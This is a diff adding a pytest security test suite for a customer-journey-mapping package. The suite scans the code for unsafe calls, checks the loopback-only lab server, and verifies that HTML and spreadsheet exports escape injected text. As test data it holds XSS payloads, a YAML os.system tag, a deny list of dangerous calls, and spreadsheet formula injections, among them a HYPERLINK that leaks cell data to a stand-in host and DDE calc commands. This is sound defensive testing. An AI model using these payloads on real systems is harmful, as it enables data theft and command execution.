@@ -1,0 +1,360 @@
+"""Security promises of SECURITY.md, each checked against the code or its output.
+
+* The package never runs user data: no eval/exec/pickle/marshal, YAML only through the
+  safe loader, subprocesses with argument lists and no shell (an AST scan of cjm_helpers).
+* `cjm lab` listens on 127.0.0.1 only and always with a fresh random token.
+* Every text field of a project, filled with HTML and script payloads, comes out of every
+  HTML renderer as text: no new tags, no event-handler attributes, no javascript: links.
+* Every text field filled with spreadsheet formulas comes out of the CSV and XLSX exports
+  as text that a spreadsheet will not run.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import re
+from collections.abc import Callable, Iterator
+from functools import lru_cache
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from pydantic import ValidationError
+
+from cjm_helpers.cli import main
+from cjm_helpers.commands import project as project_commands
+from cjm_helpers.model import Project
+from cjm_helpers.paths import PACKAGE_DIR, PROJECT_ENV, SAMPLE_PROJECT
+from cjm_helpers.store import load_project, project_to_data, save_project
+
+# --- the code never runs user data -------------------------------------------------------
+
+BANNED_CALLS = {
+    "eval", "exec", "__import__",
+    "pickle.load", "pickle.loads", "pickle.Unpickler", "cPickle.loads", "marshal.load", "marshal.loads",
+    "shelve.open", "dill.load", "dill.loads", "cloudpickle.load", "cloudpickle.loads",
+    "yaml.unsafe_load", "yaml.full_load", "yaml.load_all", "yaml.unsafe_load_all",
+    "os.system", "os.popen", "os.execv", "os.execvp", "os.spawnl", "pd.read_pickle", "pandas.read_pickle",
+    "subprocess.getoutput", "subprocess.getstatusoutput",
+}
+UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader"}
+SUBPROCESS_CALLS = {"subprocess.run", "subprocess.call", "subprocess.check_call",
+                    "subprocess.check_output", "subprocess.Popen"}
+
+
+def dotted(node: ast.AST) -> str:
+    if isinstance(node, ast.Name):
+        return node.id
+    if isinstance(node, ast.Attribute):
+        return f"{dotted(node.value)}.{node.attr}"
+    return ""
+
+
+def scan(tree: ast.AST) -> Iterator[tuple[int, str]]:
+    """(line, finding) for every unsafe construct in one module."""
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Import | ast.ImportFrom):
+            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
+            for name in names:
+                if name and name.split(".")[0] in {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle"}:
+                    yield node.lineno, f"imports {name}"
+        if isinstance(node, ast.Attribute) and node.attr in UNSAFE_LOADERS and dotted(node.value) == "yaml":
+            yield node.lineno, f"uses yaml.{node.attr}"
+        if not isinstance(node, ast.Call):
+            continue
+        name = dotted(node.func)
+        if name in BANNED_CALLS:
+            yield node.lineno, f"calls {name}"
+        if name == "yaml.load":
+            loader = next((k.value for k in node.keywords if k.arg == "Loader"),
+                          node.args[1] if len(node.args) > 1 else None)
+            if loader is None or dotted(loader).split(".")[-1] not in {"SafeLoader", "CSafeLoader"}:
+                yield node.lineno, "calls yaml.load without the safe loader"
+        for keyword in node.keywords:
+            if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant) and keyword.value.value is False):
+                yield node.lineno, f"calls {name or 'something'} with shell={ast.unparse(keyword.value)}"
+        if name in SUBPROCESS_CALLS and node.args and isinstance(node.args[0], ast.Constant | ast.JoinedStr | ast.BinOp):
+            yield node.lineno, f"calls {name} with a command string instead of an argument list"
+
+
+def package_modules() -> list[Path]:
+    return sorted(PACKAGE_DIR.rglob("*.py"))
+
+
+def test_scanner_finds_what_it_looks_for() -> None:
+    bad = (
+        "import pickle\nimport yaml, subprocess, os\n"
+        "eval(x)\nexec(y)\nyaml.load(s)\nyaml.load(s, Loader=yaml.Loader)\nyaml.unsafe_load(s)\n"
+        "subprocess.run('ls ' + d, shell=True)\nsubprocess.call(f'rm {x}')\nos.system('x')\n"
+        "yaml.load(s, Loader=yaml.SafeLoader)\nsubprocess.run(['ls', d])\n"
+    )
+    found = sorted(line for line, _ in scan(ast.parse(bad)))
+    assert found == [1, 3, 4, 5, 6, 6, 7, 8, 8, 9, 10]
+
+
+def test_package_never_runs_user_data() -> None:
+    findings = []
+    for path in package_modules():
+        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
+        findings += [f"{path.relative_to(PACKAGE_DIR)}:{line}: {what}" for line, what in scan(tree)]
+    assert len(package_modules()) > 20
+    assert findings == []
+
+
+def test_yaml_is_parsed_with_the_safe_loader() -> None:
+    from cjm_helpers import yamlio
+
+    assert issubclass(yamlio._DateSafeLoader, (__import__("yaml").SafeLoader, getattr(__import__("yaml"), "CSafeLoader", object)))
+    with pytest.raises(yamlio.YamlError, match="tags such as"):
+        yamlio.parse_yaml("!!python/object/apply:os.system ['echo unsafe']")
+
+
+# --- cjm lab ----------------------------------------------------------------------------------
+
+
+def test_lab_command_is_loopback_with_token() -> None:
+    cmd = project_commands.lab_command(SAMPLE_PROJECT, 8899, "a" * 48, open_browser=False)
+    assert isinstance(cmd, list) and all(isinstance(part, str) for part in cmd)
+    assert "--ServerApp.ip=127.0.0.1" in cmd
+    assert "--IdentityProvider.token=" + "a" * 48 in cmd
+    assert "--ServerApp.port=8899" in cmd
+    joined = " ".join(cmd)
+    for risky in ("0.0.0.0", "ip=*", "token=''", 'token=""', "disable_check_xsrf", "allow_origin=*",
+                  "password=", "allow_remote_access=True"):
+        assert risky not in joined
+
+
+def test_cjm_lab_starts_with_a_fresh_long_token(sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
+    calls: list[tuple[list[str], dict[str, str]]] = []
+    monkeypatch.setattr(project_commands.subprocess, "call",
+                        lambda cmd, env: calls.append((cmd, env)) or 0)
+    assert main(["lab", str(sample_copy), "--no-browser", "--port", "8891"]) == 0
+    assert main(["lab", str(sample_copy), "--no-browser", "--port", "8891"]) == 0
+    tokens = []
+    for cmd, env in calls:
+        assert "--ServerApp.ip=127.0.0.1" in cmd and "--no-browser" in cmd
+        token = next(p.split("=", 1)[1] for p in cmd if p.startswith("--IdentityProvider.token="))
+        assert re.fullmatch(r"[0-9a-f]{48}", token)
+        assert env[PROJECT_ENV] == str(sample_copy.resolve())
+        tokens.append(token)
+    assert tokens[0] != tokens[1], "every start gets its own token"
+    assert f"http://127.0.0.1:8891/lab?token={tokens[0]}" in capsys.readouterr().out
+
+
+# --- every text field, filled with payloads ------------------------------------------------
+
+
+def _leaves(data: Any, path: tuple = ()) -> Iterator[tuple[tuple, str]]:
+    if isinstance(data, dict):
+        for key, value in data.items():
+            yield from _leaves(value, (*path, key))
+    elif isinstance(data, list):
+        for i, value in enumerate(data):
+            yield from _leaves(value, (*path, i))
+    elif isinstance(data, str):
+        yield path, data
+
+
+def _set(data: Any, path: tuple, value: Any) -> None:
+    for part in path[:-1]:
+        data = data[part]
+    data[path[-1]] = value
+
+
+@lru_cache(maxsize=1)
+def free_text_paths() -> tuple[tuple, ...]:
+    """Every string field of the sample that accepts any text (not ids, choices or dates).
+
+    Fill every string at once; the fields pydantic refuses are ids, choices or dates.
+    """
+    probe = "Any <text> & 'quotes' \"too\""
+    paths = {path for path, _ in _leaves(project_to_data(load_project(SAMPLE_PROJECT)))}
+    while True:
+        data = project_to_data(load_project(SAMPLE_PROJECT))
+        for path in paths:
+            _set(data, path, probe)
+        try:
+            Project.model_validate(data)
+        except ValidationError as exc:
+            refused = {tuple(e["loc"]) for e in exc.errors()}
+            assert refused & paths, exc
+            paths -= refused
+            continue
+        return tuple(sorted(paths, key=str))
+
+
+def filled_project(payload: str) -> Project:
+    """The sample project with every free-text field set to ``payload`` (numbered, to tell them apart)."""
+    data = project_to_data(load_project(SAMPLE_PROJECT))
+    for n, path in enumerate(free_text_paths()):
+        _set(data, path, f"{payload} #{n}")
+    return Project.model_validate(data)
+
+
+def test_payload_reaches_the_fields_that_matter() -> None:
+    paths = {".".join(str(p) for p in path) for path in free_text_paths()}
+    assert len(paths) > 300
+    for expected in ("name", "description", "personas.0.name", "personas.0.quote", "stages.0.name",
+                     "touchpoints.0.name", "journeys.0.name", "journeys.0.stages.awareness.actions.0.text",
+                     "journeys.0.stages.purchase.pain_points.0.text", "opportunities.0.title",
+                     "kpis.0.name", "objectives.business_question", "objectives.team.0.name"):
+        assert expected in paths
+
+
+HTML_PAYLOADS = [
+    '<script>alert("xss1")</script>',
+    '"><img src=x onerror=alert(2)>',
+    "' onmouseover='alert(3)' data-x='",
+    "</style><script>alert(4)</script><style>",
+    "<svg/onload=alert(5)><a href=\"javascript:alert(6)\">link</a>",
+    "]]></text><script>alert(7)</script><text>",
+    "<!-- {0} {journey} %s %(name)s -->",
+]
+
+
+class Markup(HTMLParser):
+    """Tags, attributes and text of a page, as a browser would see them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attrs: list[tuple[str, str]] = []
+        self.text: list[str] = []
+        self.scripts = 0
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.scripts += tag == "script"
+        self.attrs += [(name, value or "") for name, value in attrs]
+
+    handle_startendtag = handle_starttag
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def _diff_html(project: Project) -> str:
+    from cjm_helpers.diff import diff_projects
+
+    return diff_projects(load_project(SAMPLE_PROJECT), project).to_html(standalone=True)
+
+
+def _svg(project: Project) -> str:
+    from cjm_helpers.mapping.journey_map import JourneyMap
+
+    return JourneyMap(project).to_bytes("svg").decode("utf-8")
+
+
+def _renderers() -> dict[str, Callable[[Project], str]]:
+    from cjm_helpers.mapping.journey_map import JourneyMap, compare_maps
+    from cjm_helpers.report.build import build_report
+    from cjm_helpers.views import objective_card_html, persona_cards_html
+
+    return {
+        "map-fragment": lambda p: JourneyMap(p, p.journeys[0].id)._repr_html_(),
+        "map-future-page": lambda p: JourneyMap(p, p.journeys[1].id).html_document(),
+        "compare-page": lambda p: compare_maps(p).html_document(),
+        "report": lambda p: build_report(p),
+        "diff-page": _diff_html,
+        "objective-card": objective_card_html,
+        "persona-cards": persona_cards_html,
+    }
+
+
+RENDERERS = list(_renderers())
+VISIBLE = {"map-fragment", "map-future-page", "compare-page", "report", "objective-card", "persona-cards", "diff-page"}
+
+
+@lru_cache(maxsize=None)
+def clean_markup(renderer: str) -> Markup:
+    return Markup(_renderers()[renderer](load_project(SAMPLE_PROJECT)))
+
+
+@pytest.mark.parametrize("payload", HTML_PAYLOADS, ids=[f"payload{i}" for i in range(len(HTML_PAYLOADS))])
+@pytest.mark.parametrize("renderer", RENDERERS)
+def test_html_output_shows_payloads_as_text(renderer: str, payload: str) -> None:
+    project = filled_project(payload)
+    page = _renderers()[renderer](project)
+    seen, clean = Markup(page), clean_markup(renderer)
+
+    assert seen.tags <= clean.tags, f"new tags from user text: {seen.tags - clean.tags}"
+    assert seen.scripts == clean.scripts
+    handlers = [name for name, _ in seen.attrs if name.startswith("on")]
+    assert handlers == []
+    links = [value for name, value in seen.attrs if value.strip().lower().startswith("javascript:")]
+    assert links == []
+    if renderer in VISIBLE:
+        assert payload.strip() in "".join(seen.text) or payload in " ".join(v for _, v in seen.attrs), \
+            "the text is shown, escaped, not dropped"
+
+
+@pytest.mark.parametrize("payload", HTML_PAYLOADS[:3], ids=["payload0", "payload1", "payload2"])
+def test_svg_map_keeps_payloads_as_text(payload: str) -> None:
+    svg = _svg(filled_project(payload))
+    seen = Markup(svg)
+    assert "script" not in seen.tags and "img" not in seen.tags
+    assert [name for name, _ in seen.attrs if name.startswith("on")] == []
+
+
+# --- spreadsheet exports --------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _csv_cells(raw: bytes) -> list[str]:
+    text = raw.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _assert_inert(cells: list[str], where: str) -> None:
+    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
+    assert live == [], f"{where}: cells a spreadsheet would run: {live[:3]}"
+
+
+@pytest.mark.parametrize("payload", FORMULAS, ids=[f"formula{i}" for i in range(len(FORMULAS))])
+@pytest.mark.parametrize("fmt", ["csv", "wide-csv", "xlsx"])
+def test_spreadsheet_exports_neutralise_formulas(fmt: str, payload: str, tmp_path: Path) -> None:
+    project_file = tmp_path / "p.cjm.yaml"
+    data = project_to_data(load_project(SAMPLE_PROJECT))
+    for n, path in enumerate(free_text_paths()):
+        _set(data, path, payload if n % 2 else f"{payload} #{n}")
+    save_project(Project.model_validate(data), project_file)
+    out = tmp_path / f"map.{'xlsx' if fmt == 'xlsx' else 'csv'}"
+
+    assert main(["map", str(project_file), "--format", fmt, "--out", str(out)]) == 0
+    if fmt == "xlsx":
+        book = openpyxl.load_workbook(out)
+        cells = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                    if isinstance(cell.value, str):
+                        cells.append(cell.value)
+    else:
+        cells = _csv_cells(out.read_bytes())
+    _assert_inert(cells, f"{fmt} export")
+    shown = payload.strip()
+    assert any(shown in c for c in cells), "the text is kept (with a leading apostrophe), not dropped"
